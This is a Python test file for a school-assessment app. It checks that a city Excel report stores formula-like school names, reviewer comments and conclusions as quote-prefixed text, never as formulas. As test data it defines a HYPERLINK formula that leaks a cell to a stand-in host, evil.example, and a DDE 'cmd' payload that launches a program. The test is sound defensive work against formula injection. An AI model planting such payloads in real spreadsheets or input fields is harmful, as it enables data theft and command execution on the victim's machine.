"""A school name or a reviewer comment that looks like a formula comes back from the city workbook as
the text it is: a string cell (quote-prefixed), never a formula, whatever sheet it lands in."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from assessments.models import AssessmentStatus, ItemResponse, School
from reports.workbook import city_workbook_write

from .conftest import set_status

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
CONCLUSION = "=cmd|' /C calc'!A0"


def test_formula_like_school_name_and_comments_are_string_cells(world, points_campaign):
    School.objects.filter(pk=world.school_a1.pk).update(name=HYPERLINK)
    responses = ItemResponse.objects.filter(
        assessment__campaign=points_campaign, assessment__school=world.school_a1
    ).order_by("node__position")
    for response, comment in zip(responses, ["=1+1", "-1", "@SUM(A1:A9)", "+86 10 1234"], strict=False):
        response.review_verdict, response.review_score, response.review_comment = (
            "adjust",
            response.self_score,
            comment,
        )
        response.save()
    # the review's values reach the workbook once it is finalised, with its overall conclusion
    set_status(points_campaign, AssessmentStatus.FINALISED, schools=[world.school_a1], conclusion=CONCLUSION)
    out = io.BytesIO()
    city_workbook_write(campaign=points_campaign, region=points_campaign.region, out=out)
    out.seek(0)
    wb = load_workbook(out)

    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = {HYPERLINK: 0, "=1+1": 0, "-1": 0, "@SUM(A1:A9)": 0, "+86 10 1234": 0, CONCLUSION: 0}
    for cell in cells:
        if cell.value in hostile:
            assert cell.data_type == "s" and cell.quotePrefix, (cell.parent.title, cell.coordinate)
            hostile[cell.value] += 1
    # the name in the summary, the smart-classroom sheet, the facts sheet and each of the school's
    # detail rows; each comment once
    comments = {"=1+1": 1, "-1": 1, "@SUM(A1:A9)": 1, "+86 10 1234": 1, CONCLUSION: 1}
    assert hostile == {HYPERLINK: 3 + responses.count(), **comments}
    names = [c for c in wb["学校汇总"]["C"] if c.value == HYPERLINK]
    assert names and names[0].offset(column=-1).value == "S-A1"
